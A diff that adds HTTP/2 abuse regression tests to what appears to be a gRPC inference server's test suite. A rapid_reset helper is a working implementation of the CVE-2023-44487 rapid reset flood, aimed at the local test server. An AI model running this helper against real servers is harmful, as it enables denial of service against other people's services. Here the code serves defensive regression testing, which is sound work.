@@ -794,6 +794,84 @@ class MetricsEndpointTest(unittest.TestCase):
             server.stop()
 
 
+def rapid_reset(port, connections, streams):
+    """HTTP/2 rapid reset (CVE-2023-44487): on each connection, `streams` calls opened and
+    cancelled at once (HEADERS, then RST_STREAM), as fast as the socket takes them."""
+    import h2.config
+    import h2.connection
+    import h2.errors
+
+    def attack():
+        with socket.create_connection(("127.0.0.1", port)) as sock:
+            connection = h2.connection.H2Connection(
+                h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+            connection.initiate_connection()
+            headers = [(":method", "POST"), (":scheme", "http"),
+                       (":path", "/attnserve.v1.Inference/NextToken"),
+                       (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
+                       ("te", "trailers")]
+            for i in range(streams):
+                connection.send_headers(2 * i + 1, headers)
+                connection.reset_stream(2 * i + 1, h2.errors.ErrorCodes.CANCEL)
+                if i % 100 == 99:
+                    sock.sendall(connection.data_to_send())
+                    sock.setblocking(False)
+                    try:  # the server's frames: settings, window updates
+                        while incoming := sock.recv(1 << 16):
+                            connection.receive_data(incoming)
+                    except BlockingIOError:
+                        pass
+                    sock.setblocking(True)
+            sock.sendall(connection.data_to_send())
+
+    threads = [threading.Thread(target=attack) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+class Http2AbuseTest(unittest.TestCase):
+    def test_memory_returns_after_a_rapid_reset_burst(self):
+        # 100,000 calls opened and reset over 4 connections. gRPC 1.51 (Debian's) allocates each
+        # one and frees it later, so memory peaks with the attacker's rate (about 1.5 GB here);
+        # it must come back, where glibc kept it (+450 MB to +1.5 GB, for good).
+        server = Server()
+        try:
+            self.assertEqual(len(server.stub.NextToken(pb.NextTokenRequest(
+                model=MODEL, sequences=[pb.Sequence(text="warm")])).results), 1)
+            before = resident_megabytes(server.process.pid)
+            rapid_reset(server.port, connections=4, streams=25000)
+            deadline = time.time() + 60
+            while time.time() < deadline and \
+                    resident_megabytes(server.process.pid) - before > 64:
+                time.sleep(1)
+            self.assertLess(resident_megabytes(server.process.pid) - before, 64,
+                            server.metrics())
+            self.assertEqual(len(server.stub.NextToken(pb.NextTokenRequest(
+                model=MODEL, sequences=[pb.Sequence(text="still serving")])).results), 1)
+        finally:
+            server.stop()
+
+    def test_large_headers_fail_their_own_call_only(self):
+        # A 20 KB header block passes (gRPC's 8 KB default refused it and, in 1.51, ended every
+        # other call on the connection too); past --max_metadata_bytes it is RESOURCE_EXHAUSTED.
+        server = Server()
+        try:
+            stream = server.stub.Generate(pb.GenerateRequest(
+                model=MODEL, prompt=pb.Sequence(text="hello"), max_tokens=100), timeout=60)
+            next(stream)
+            request = pb.NextTokenRequest(model=MODEL, sequences=[pb.Sequence(text="x")])
+            server.stub.NextToken(request, metadata=[("x-large", "a" * 20000)], timeout=10)
+            self.assertEqual(sum(1 for _ in stream), 100)
+            with self.assertRaises(grpc.RpcError) as raised:
+                server.stub.NextToken(request, metadata=[("x-huge", "a" * 100000)], timeout=10)
+            self.assertEqual(raised.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
+            self.assertEqual(len(server.stub.NextToken(request, timeout=10).results), 1)
+        finally:
+            server.stop()
+
+
 class MessageLimitTest(unittest.TestCase):
     def test_messages_past_the_limit_are_refused_and_the_server_keeps_serving(self):
         server = Server("--max_message_bytes=65536")
